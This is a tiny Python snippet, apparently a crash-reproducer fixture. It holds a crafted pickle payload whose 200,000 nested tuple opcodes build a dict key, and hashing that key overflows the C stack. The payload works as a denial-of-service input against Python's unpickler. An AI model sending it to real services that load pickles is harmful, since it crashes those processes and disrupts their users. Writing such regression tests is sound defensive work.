"""A key of tuples in tuples: its hash overflows the stack of C."""

PAYLOAD = b"\x80\x04})" + b"\x85" * 200000 + b"Ns."
